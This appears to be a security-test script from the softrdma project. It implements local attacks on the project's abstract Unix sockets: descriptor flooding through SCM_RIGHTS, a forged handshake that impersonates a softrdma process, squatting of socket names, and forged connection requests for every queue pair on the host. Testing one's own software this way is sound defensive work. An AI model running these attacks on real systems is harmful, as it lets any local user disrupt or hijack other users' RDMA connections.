# SPDX-License-Identifier: BSD-3-Clause
"""Attacks that any user of the machine can make on the abstract sockets of softrdma's processes.

local_user.py give NAME COUNT: gives the socket of that name descriptors, in each number up to 60;
local_user.py hello NAME: introduces itself as a process of softrdma does, and prints how many
descriptors it is given.
local_user.py hold NAME...: takes the names for itself, and prints how many it has.
local_user.py requests SOURCE DESTINATION PORT GUID [QPN]: asks for a connection in the name of that
queue pair, or of each that processes of this host may have."""

import array
import ctypes
import os
import re
import socket
import struct
import sys
import time

import forge

SEG = os.path.join(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__)))),
                   "softrdma", "fabric", "seg.h")
MOST = 60
NONCE = 0x0123456789abcdef


def names(kind):
    """The abstract sockets softrdma.KIND..."""
    with open("/proc/net/unix", encoding="utf-8", errors="replace") as f:
        return sorted(set(re.findall(rf"@(softrdma\.{kind}\.\S+)", f.read())))


def packets(name):
    return socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET if re.search(r"\.(node|cm|roce)\.", name) else socket.SOCK_DGRAM)


def give(name, count):
    null = os.open("/dev/null", os.O_RDONLY)
    for i in range(count):
        with packets(name) as out:
            out.connect("\0" + name)
            rights = array.array("i", [null] * (1 + i % MOST))
            out.sendmsg([b"x" * 8], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])


def constant(name):
    with open(SEG, encoding="ascii") as f:
        return int(re.search(rf"#define {name}\s+(\w+?)(?:ULL|u)?\s", f.read()).group(1), 0)


def hello(name):
    """struct sr_hello of a process that is as it says."""
    nonce = ctypes.c_uint64(NONCE)
    own = os.memfd_create("hello")
    with packets(name) as out:
        out.connect("\0" + name)
        message = struct.pack("=QIiQQQ", constant("SEG_MAGIC"), constant("SEG_VERSION"), os.getpid(), 1,
                              ctypes.addressof(nonce), NONCE)
        out.sendmsg([message], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [own, own]))])
        answer, fds, _, _ = socket.recv_fds(out, 4096, 8)
        print(struct.unpack_from("=i", answer)[0], len(fds))


def hold(*wanted):
    """Until standard input ends."""
    held = []
    for name in wanted:
        held.append(packets(name))
        held[-1].bind("\0" + name)
    print(len(held), flush=True)
    sys.stdin.read()


def numbers():
    for base in names("node"):
        for slot in range(256):
            yield int(base.rsplit(".", 1)[1], 16) << 8 | slot


def requests(source, destination, port, guid, qpn=None):
    out = forge.Socket(source)
    for i, number in enumerate([int(qpn)] if qpn else numbers()):
        out.send(destination, forge.request(source, destination, int(port), number, bytes.fromhex(guid)))
        if i % 16 == 15:
            time.sleep(0.002)  # none shall be lost


if __name__ == "__main__":
    if sys.argv[1] == "give":
        give(sys.argv[2], int(sys.argv[3]))
    elif sys.argv[1] == "hold":
        hold(*sys.argv[2:])
    elif sys.argv[1] == "requests":
        requests(*sys.argv[2:])
    else:
        hello(sys.argv[2])
